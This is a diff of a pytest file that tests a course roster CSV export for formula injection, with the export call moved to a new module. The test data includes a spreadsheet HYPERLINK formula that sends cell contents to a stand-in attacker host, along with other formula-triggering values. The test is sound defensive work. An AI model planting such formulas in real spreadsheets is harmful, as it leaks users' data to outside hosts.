@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from courses import roster, services
+from courses import roster, roster_export, services
 from courses.csvsafe import formula_safe, unescape_cell, write_rows
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
@@ -52,7 +52,7 @@ def test_roster_export_has_no_formula_cells_and_imports_back_unchanged(course, f
         last_name="@evil",
         email="+1@evil.example",
     )
-    text = roster.export_roster(course=course, format=fmt)
+    text = roster_export.export_roster(course=course, format=fmt)
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
     assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
     assert "'-mallory" in cells and ("'" + HYPERLINK in cells or "'@evil, " + HYPERLINK in cells)
